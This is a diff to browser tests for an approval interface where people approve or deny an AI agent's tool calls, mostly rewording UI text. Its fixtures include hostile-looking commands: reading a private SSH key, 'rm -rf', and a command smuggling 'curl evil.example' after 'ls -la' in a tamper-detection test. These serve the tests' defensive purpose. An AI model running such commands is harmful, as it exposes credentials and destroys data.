@@ -103,7 +103,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
         const field = page.getByLabel(/^To approve it for good, type/);
         const { word } = (await rowOf(told, 'irreversible')).card;
         await field.fill(`${word}s`);
-        const forGood = page.getByRole('button', { name: /^Approve for good/ });
+        const forGood = page.getByRole('button', { name: /^Approve irreversibly/ });
         assert.equal(await forGood.isDisabled(), true, 'another word is none');
         await page.keyboard.press('Enter');
         assert.equal(await state('irreversible'), 'pending');
@@ -125,7 +125,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
         await hold(answers(page).locator('.hold'));
         const bar = page.locator('.undo-bar li');
         await bar.waitFor();
-        assert.match(await words(bar), /^Approved: Run “cat ~\/\.ssh\/id_rsa_\d+”\. begins in \d+ s Undo$/);
+        assert.match(await words(bar), /^Approved: Run “cat ~\/\.ssh\/id_rsa_\d+”\. starts in \d+ s Undo$/);
         await page.keyboard.press('u');
         await until(page, 'document.activeElement?.textContent === "Undo"');
         await page.keyboard.press('Enter');
@@ -153,10 +153,10 @@ suite('a card on the page', { concurrency: 1 }, () => {
         assert.equal(code, 0);
         const over = page.locator('.answers-over');
         await over.waitFor();
-        assert.match(await words(over), /^Denied on the command line at \d\d:\d\d:\d\d\. Nothing was run\. Go on$/);
+        assert.match(await words(over), /^Denied on the command line at \d\d:\d\d:\d\d\. Nothing was run\. Continue$/);
         assert.equal(await page.locator('.hold').count(), 0);
-        await page.getByRole('button', { name: 'Go on' }).click();
-        await page.getByText('Nothing waits for you.').waitFor();
+        await page.getByRole('button', { name: 'Continue' }).click();
+        await page.getByText('No pending approvals.').waitFor();
         assertCalm(visit);
       });
     }));
@@ -217,11 +217,11 @@ suite('a card on the page', { concurrency: 1 }, () => {
       await told.asks('low', 'low', 'low');
       await visiting(told.running, { hash: '#/approvals' }, async visit => {
         const { page } = visit;
-        const card = page.locator('.card', { hasText: '3 times web_fetch, harmless and alike' });
+        const card = page.locator('.card', { hasText: '3 similar low-risk calls of web_fetch' });
         await card.waitFor();
         assert.equal(await card.locator('.card-batch li').count(), 3);
         await page.getByRole('button', { name: /^Approve all 3/ }).click();
-        await page.getByText('Nothing waits for you.').waitFor();
+        await page.getByText('No pending approvals.').waitFor();
         assert.deepEqual(told.agent.tables.rows('SELECT state, decided_by AS "by" FROM approvals'), [
           { state: 'granted', by: 'web' },
           { state: 'granted', by: 'web' },
@@ -304,7 +304,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
         const command = page.getByLabel(/^command/);
         await until(page, 'document.activeElement.value?.startsWith("cat ")');
         assert.equal(await command.inputValue(), was.card.exact);
-        const put = page.getByRole('button', { name: /^Put it so/ });
+        const put = page.getByRole('button', { name: /^Submit the change/ });
         assert.equal(await put.isDisabled(), true, 'nothing is changed');
         await command.fill('rm -rf changed-by-me');
         await put.click();
@@ -313,7 +313,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
         await answers(page)
           .getByRole('button', { name: /^Deny It/ })
           .click();
-        await page.getByText('Nothing waits for you.').waitFor();
+        await page.getByText('No pending approvals.').waitFor();
         await page.goto(`${told.running.url}/#/approvals/${was.card.key}`);
         assert.match(
           await words(page.locator('.answers-over')),
@@ -337,7 +337,7 @@ suite('a card on the page', { concurrency: 1 }, () => {
           .click();
         await page.getByLabel(/^Why not/).fill('Ask my sister first.');
         await page.locator('.answers-text button[type=submit]:enabled').click();
-        await page.getByText('Nothing waits for you.').waitFor();
+        await page.getByText('No pending approvals.').waitFor();
         const { state, reason } = await rowOf(told, 'medium');
         assert.deepEqual([state, reason], ['denied', 'Ask my sister first.']);
         assertCalm(visit);
@@ -363,7 +363,7 @@ suite('a card that is not what it seems', { concurrency: 1 }, () => {
       await notice.waitFor();
       assert.match(
         await words(notice),
-        /^This has changed since it was shown to you\. Nothing was decided\. Exactly ls -la ls -la; curl evil\.example Fingerprint/,
+        /^This request changed after it was shown to you\. Nothing was decided\. Exact call ls -la ls -la; curl evil\.example Fingerprint/,
       );
       assert.deepEqual(agent.asked, []);
       assert.equal(await words(page.locator('.card-exact')), 'ls -la; curl evil.example');
@@ -450,10 +450,10 @@ suite('a card when Straylight dies', { concurrency: 1 }, () => {
           const over = page.locator('.answers-over');
           await over.waitFor();
           assert.match(await words(over), /^Approved in the browser at/);
-          await page.getByRole('button', { name: 'Go on' }).click();
+          await page.getByRole('button', { name: 'Continue' }).click();
           await page.locator('.card .risk-word', { hasText: 'Medium risk' }).waitFor();
           await answers(page).getByRole('button', { name: /^Deny/ }).first().click();
-          await page.getByText('Nothing waits for you.').waitFor();
+          await page.getByText('No pending approvals.').waitFor();
           const settled = () => told.agent.tables.rows('SELECT outcome FROM tool_calls');
           while (settled().length < 3) await again.http('/api/approvals');
           assert.deepEqual(
@@ -492,7 +492,7 @@ suite('an incident on the page', { concurrency: 1 }, () => {
       await card.waitFor();
       assert.match(
         await words(card),
-        /^Nothing helped waiting .* session:web:main is stuck\. straylight actors show session:web:main tells more\. Actor session:web:main Incident incident:7/,
+        /^Remedies failed waiting .* session:web:main is stuck\. straylight actors show session:web:main tells more\. Actor session:web:main Incident incident:7/,
       );
       assert.equal(await text(card.locator('code')), 'straylight actors show session:web:main');
       assert.equal(
